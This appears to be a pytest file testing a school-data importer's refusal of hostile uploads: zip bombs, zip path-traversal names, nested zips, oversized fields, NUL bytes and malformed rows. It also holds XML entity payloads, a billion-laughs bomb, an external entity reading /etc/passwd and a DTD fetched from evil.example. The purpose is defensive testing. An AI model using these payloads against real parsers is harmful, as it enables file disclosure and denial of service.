"""Everything that a sender, or somebody who means harm, may put into a file, in each format where it applies.

Each kind of bad input has a test of its name. A file that is bad as a whole is one sentence and changes nothing; a row
that is bad is one line of the report, and the rest loads. No sentence repeats a value: the canary never comes back.
"""

import io
import zipfile
from pathlib import Path

import pytest

from appliance.errors import BadFile
from appliance.jobs.import_files import check_files, import_files
from appliance.storage.database import Database
from tests.elm_and_oak import ROSTER, ElmAndOak, csv_text
from tests.student_level.sources import edfi_district
from tests.student_level.sources.mapping.workbooks import write_workbook

CANARY = "Xylophonia"
ABSENCES = f"student_id,date,category,note\n501,2026-09-01,Excused,{CANARY}\n"
MAPPING = """version = 1
name = "Riverton absences"
fingerprint = ["PUPIL", "ATT_DT", "ATT_CODE"]
[[table]]
layout = "daily attendance"
[table.columns]
student_id = "PUPIL"
date = "ATT_DT"
category = { from = "ATT_CODE", codes = "attendance" }
[codes.attendance]
A = "Unexcused"
"""


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    """Elm and Oak with their roster, and a mapping of the district's own."""
    folder = tmp_path_factory.mktemp("town")
    town = ElmAndOak(folder, Database.create(folder / "home"))
    town.begin()
    (town.database.home / "mappings").mkdir()
    (town.database.home / "mappings" / "riverton.toml").write_text(MAPPING)
    yield town
    town.database.close()


def csv(folder: Path, rows: list[list[str]]) -> Path:
    """Absences in our own words."""
    path = folder / "absences.csv"
    path.write_text("\n".join(",".join(row) for row in [["student_id", "date", "category"], *rows]) + "\n")
    return path


def mapped(folder: Path, rows: list[list[str]]) -> Path:
    """Absences in another system's words, read through a mapping."""
    path = folder / "riverton.csv"
    coded = [[student, day, "A" if code == "Unexcused" else code] for student, day, code in rows]
    path.write_text("\n".join(",".join(row) for row in [["PUPIL", "ATT_DT", "ATT_CODE"], *coded]) + "\n")
    return path


def workbook(folder: Path, rows: list[list[str]]) -> Path:
    """Absences as an Excel workbook."""
    return write_workbook(folder / "absences.xlsx", Absences=[["student_id", "date", "category"], *rows])


TABLES = {"csv": csv, "mapping": mapped, "workbook": workbook}
in_each_table = pytest.mark.parametrize("write", TABLES.values(), ids=TABLES)


def packed(path: Path, *members: tuple[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members:
            package.writestr(name, content)
    return path


def interchange(*records: str, start: str = "") -> bytes:
    return start.encode() + b"".join(edfi_district.interchange("StudentParent", list(records)))


def refused_whole(town: ElmAndOak, path: Path, sentence: str) -> None:
    """One sentence that names the file and shows nothing of it, at the check and at the import; nothing is changed."""
    before = town.all_that_is_stored()
    for work in (check_files, import_files):
        with pytest.raises(BadFile, match=sentence) as caught:
            work(town.database, [path])
        said = str(caught.value)
        assert path.name in said
        assert CANARY not in said
        assert len(said) < 600
    assert town.all_that_is_stored() == before


def rows_refused(town: ElmAndOak, *paths: Path) -> dict[int, str]:
    """Row -> code of what is refused; and no value stands in the report."""
    report = check_files(town.database, list(paths))
    assert CANARY not in " ".join(report.lines())
    return {problem.row: problem.code for problem in report.problems if problem.row}


NAMES = {"OneRoster": "users.csv", "csv": "absences.csv", "Ed-Fi": "StudentParent.xml"}
in_each_zip = pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)


@in_each_zip
def test_zip_bombs(loaded, tmp_path, name):
    refused_whole(loaded, packed(tmp_path / "bomb.zip", (name, b"0" * 40_000_000)), "would unpack to")


def test_zip_bombs_in_a_workbook(loaded, tmp_path):
    path = workbook(tmp_path, [["501", "2026-09-01", "Excused"]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/worksheets/s2.xml", b"0" * 400_000_000)
    refused_whole(loaded, path, "unpack|larger than")


@in_each_zip
@pytest.mark.parametrize("trick", ["../../etc/{}", "/etc/{}", "..\\..\\{}", "C:\\{}", "a/../../{}"])
def test_path_tricks(loaded, tmp_path, name, trick):
    refused_whole(loaded, packed(tmp_path / "tricks.zip", (trick.format(name), b"x,y\n")), "leads out of the package")
    assert not list(tmp_path.parent.glob("etc"))


@pytest.mark.parametrize("name", ["users.csv", "absences.csv"], ids=["OneRoster", "csv"])
def test_nested_zips(loaded, tmp_path, name):
    inner = packed(tmp_path / "inner.zip", (name, b"x,y\n")).read_bytes()
    refused_whole(loaded, packed(tmp_path / "outer.zip", (name, b"x\n"), ("inner.zip", inner)), "another zip file")


def test_nested_zips_in_an_edfi_package_are_never_opened(loaded, tmp_path):
    inner = packed(tmp_path / "inner.zip", ("StudentParent.xml", b"0" * 40_000_000)).read_bytes()
    path = packed(tmp_path / "outer.zip", ("StudentParent.xml", interchange()), ("inner.zip", inner))
    report = check_files(loaded.database, [path])
    assert any("never opened" in read.note for read in report.files)


ENTITIES = {
    "a billion laughs": "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9)),
    "a file of this machine": '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "an address elsewhere": '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;',
}


@pytest.mark.parametrize("entity", ENTITIES.values(), ids=ENTITIES)
@pytest.mark.parametrize("in_zip", [False, True], ids=["loose file", "package"])
def test_xml_entity_attacks(loaded, tmp_path, entity, in_zip):
    content = f"<!DOCTYPE x [{entity}]><InterchangeStudentParent>&l9;&x;</InterchangeStudentParent>".encode()
    path = tmp_path / ("package.zip" if in_zip else "StudentParent.xml")
    if in_zip:
        packed(path, ("StudentParent.xml", content))
    else:
        path.write_bytes(content)
    refused_whole(loaded, path, "document type|entit")


def test_xml_entity_attacks_in_a_workbook(loaded, tmp_path):
    path = workbook(tmp_path, [["501", "2026-09-01", "Excused"]])
    with zipfile.ZipFile(path) as package:
        members = {name: package.read(name) for name in package.namelist()}
    attack = f"<!DOCTYPE x [{ENTITIES['a billion laughs']}]>".encode()
    members["xl/worksheets/s1.xml"] = attack + members["xl/worksheets/s1.xml"].replace(b"Excused", b"&l9;")
    packed(path, *members.items())
    found = rows_refused_or_sentence(loaded, path)
    assert "&l9;" not in found
    assert len(found) < 2_000


def rows_refused_or_sentence(town: ElmAndOak, path: Path) -> str:
    try:
        return " ".join(check_files(town.database, [path]).lines())
    except BadFile as error:
        return str(error)


LETTERS = "abcdefghijklmnopqrstuvwxyz"


def users(name: str) -> bytes:
    """A roster's people, of whom the first is called so. Quotation marks elsewhere are as they should be."""
    return csv_text(ROSTER["users"]).replace("Ada,", f"{name},", 1).encode()


LONG = {
    "csv": lambda folder: put(folder / "long.csv", ABSENCES.replace(CANARY, "A" * 10_000_000)),
    "mapping": lambda folder: put(folder / "long.csv", f"PUPIL,ATT_DT,ATT_CODE\n{'5' * 10_000_000},9/1/2026,A\n"),
    "OneRoster": lambda folder: packed(folder / "long.zip", ("users.csv", users("".join(LETTERS) * 400_000))),
    "Ed-Fi": lambda folder: put(
        folder / "StudentParent.xml", interchange(f"<Student><Name>{'A' * 10_000_000}</Name></Student>").decode()
    ),
}


def put(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


@pytest.mark.parametrize("write", LONG.values(), ids=LONG)
def test_a_field_of_10_mb(loaded, tmp_path, write):
    refused_whole(loaded, write(tmp_path), "longer than|larger than|would unpack")


def test_a_field_of_10_mb_in_a_workbook(loaded, tmp_path):
    path = workbook(tmp_path, [["5" * 10_000_000, "2026-09-01", "Excused"], ["501", "2026-09-02", "Excused"]])
    assert "5555" not in rows_refused_or_sentence(loaded, path)


NULS = {
    "csv": lambda folder: put(folder / "nul.csv", ABSENCES.replace("501", "5\x0001")),
    "mapping": lambda folder: put(folder / "nul.csv", "PUPIL,ATT_DT,ATT_CODE\n5\x0001,9/1/2026,A\n"),
    "OneRoster": lambda folder: packed(folder / "nul.zip", ("users.csv", users("A\x00da"))),
    "Ed-Fi": lambda folder: put(folder / "StudentParent.xml", interchange("<Student>\x00</Student>").decode()),
}


@pytest.mark.parametrize("write", NULS.values(), ids=NULS)
def test_nul_bytes(loaded, tmp_path, write):
    refused_whole(loaded, write(tmp_path), "NUL|not sound XML")


QUOTES = {
    "csv": lambda folder: put(folder / "quote.csv", ABSENCES.replace("Excused", '"Excused')),
    "mapping": lambda folder: put(folder / "quote.csv", 'PUPIL,ATT_DT,ATT_CODE\n501,"9/1/2026,A\n'),
    "OneRoster": lambda folder: packed(folder / "quote.zip", ("users.csv", users('"Ada'))),
    "Ed-Fi": lambda folder: put(folder / "StudentParent.xml", interchange('<Student id="1></Student>').decode()),
}


@pytest.mark.parametrize("write", QUOTES.values(), ids=QUOTES)
def test_unbalanced_quotes(loaded, tmp_path, write):
    refused_whole(loaded, write(tmp_path), "never closed|wrong place|not sound XML")


@in_each_table
@pytest.mark.parametrize("day", ["0003-03-04", "6209-01-01", "0000-00-00", "2026-02-30"])
def test_dates_of_the_year_0003(loaded, tmp_path, write, day):
    found = rows_refused(loaded, write(tmp_path, [["501", day, "Unexcused"], ["502", "2026-09-01", "Unexcused"]]))
    assert set(found) == {2}
    assert found[2] in ("date_out_of_range", "not_a_date")


def test_dates_of_the_year_0003_in_a_roster(loaded):
    users = loaded.package("dates.zip", academicSessions="""
        sourcedId,title,type,startDate,endDate,parentSourcedId,schoolYear
        sy,2026-2027,schoolYear,0003-08-17,2027-06-05,,2027
    """)  # fmt: skip
    assert 2 in rows_refused(loaded, users)


def test_dates_of_the_year_0003_in_ed_fi(tmp_path):
    database = Database.create(tmp_path / "home")
    paths = edfi_district.write(tmp_path, 2)
    student = next(path for path in paths if path.stem == "StudentEnrollment")
    student.write_text(student.read_text().replace("2026-08-24", "0003-08-24", 1))
    report = check_files(database, paths)
    assert {problem.code for problem in report.problems} <= {"date_out_of_range", "not_a_date", "date_order"}
    assert report.refused == 1
    database.close()


@in_each_table
def test_the_word_null(loaded, tmp_path, write):
    """It stands for an empty cell, as other systems write it; where the cell is needed, the row is refused."""
    found = rows_refused(loaded, write(tmp_path, [["NULL", "2026-09-01", "Unexcused"], ["501", "null", "Unexcused"]]))
    assert found == {2: "missing", 3: "missing"}


def test_the_word_null_in_a_roster_and_mr_null(loaded):
    users = csv_text(loaded.roster["users"]) + "u-n,NULL,Null,,504,student,e\nu-m,Mo,Null,NULL,505,student,e\n"
    assert rows_refused(loaded, loaded.package("null.zip", users=users)) == {7: "missing"}


@in_each_table
def test_duplicates_within_a_file(loaded, tmp_path, write):
    row = ["501", "2026-09-01", "Unexcused"]
    assert rows_refused(loaded, write(tmp_path, [row, row, row])) == {3: "duplicate", 4: "duplicate"}


def test_duplicates_within_a_roster_file(loaded):
    users = csv_text(loaded.roster["users"]) + "u-ada,Ada,Abara,,501,student,e\n"
    assert rows_refused(loaded, loaded.package("twice.zip", users=users)) == {7: "duplicate"}


def test_duplicates_within_an_edfi_file(tmp_path):
    database = Database.create(tmp_path / "home")
    paths = edfi_district.write(tmp_path, 2)
    people = next(path for path in paths if path.stem == "StudentParent")
    text = people.read_text()
    begin, end = text.index("<Student>"), text.index("</Student>") + len("</Student>")
    people.write_text(text[:end] + text[begin:end] + text[end:])
    report = check_files(database, paths)
    assert {problem.code for problem in report.problems} == {"duplicate"}
    assert report.counts["student"].added == 2
    database.close()


@pytest.mark.parametrize(
    "parents", [("d", "d", "d"), ("e", "d", "d"), ("o", "d", "e")], ids=["its own parent", "two", "three"]
)
def test_cycles_in_org_parents(tmp_path, parents):
    town = ElmAndOak(tmp_path, Database.create(tmp_path / "home"))
    first, second, third = parents
    orgs = f"""
        sourcedId,name,type,identifier,parentSourcedId
        d,Maplewood,district,100,{first}
        e,Elm School,school,101,{second}
        o,Oak School,school,102,{third}
    """
    report = town.load(town.package(orgs=orgs))
    assert "circle" in {problem.code for problem in report.problems}
    assert report.counts["student"].added == 3
    parent = dict(town.ask("SELECT organization_key, parent_key FROM organization"))
    for start in parent:
        at, steps = start, 0
        while at is not None and steps < 5:
            at, steps = parent[at], steps + 1
        assert at is None, "no circle may reach the database"
    town.database.close()


@in_each_table
def test_a_hundred_percent_of_bad_rows(loaded, tmp_path, write):
    before = loaded.all_that_is_stored()
    path = write(tmp_path, [["501", "never", "Unexcused"], ["502", "2026-09-01", CANARY], ["", "2026-09-01", "Tardy"]])
    found = rows_refused(loaded, path)
    assert set(found) == {2, 3, 4}
    assert loaded.all_that_is_stored() == before


ENTITIES_OF = {
    "orgs": "school", "academicSessions": "academic_session", "courses": "course", "classes": "section",
    "users": "student", "enrollments": "section_enrollment", "results": "grade",
}  # fmt: skip


@pytest.mark.parametrize("member", ENTITIES_OF)
def test_a_hundred_percent_of_bad_rows_in_a_roster_file_ends_nobody(loaded, member):
    header, *rows = csv_text(loaded.roster[member]).splitlines()
    bad = "\n".join([header, *("," * header.count(",") for _ in rows)])
    report = check_files(loaded.database, [loaded.package("bad.zip", **{member: bad})])
    own = [problem for problem in report.problems if problem.file.endswith(f"/{member}.csv")]
    assert len(own) == len(rows)
    entity = ENTITIES_OF[member]
    assert report.counts[entity].ended == 0


def test_a_hundred_percent_of_bad_records_in_ed_fi(loaded, tmp_path):
    nobody = interchange(*(f"<Student><Name><FirstName>{CANARY}</FirstName></Name></Student>" for _ in range(5)))
    path = put(tmp_path / "StudentParent.xml", nobody.decode())
    report = check_files(loaded.database, [path])
    assert report.refused >= 5
    assert not report.changed_anything
    assert CANARY not in " ".join(report.lines())


def test_an_empty_zip_and_an_empty_file(loaded, tmp_path):
    content = io.BytesIO()
    zipfile.ZipFile(content, "w").close()
    (tmp_path / "empty.zip").write_bytes(content.getvalue())
    (tmp_path / "empty.csv").write_bytes(b"")
    for name in ("empty.zip", "empty.csv"):
        with pytest.raises(BadFile, match=name):
            check_files(loaded.database, [tmp_path / name])
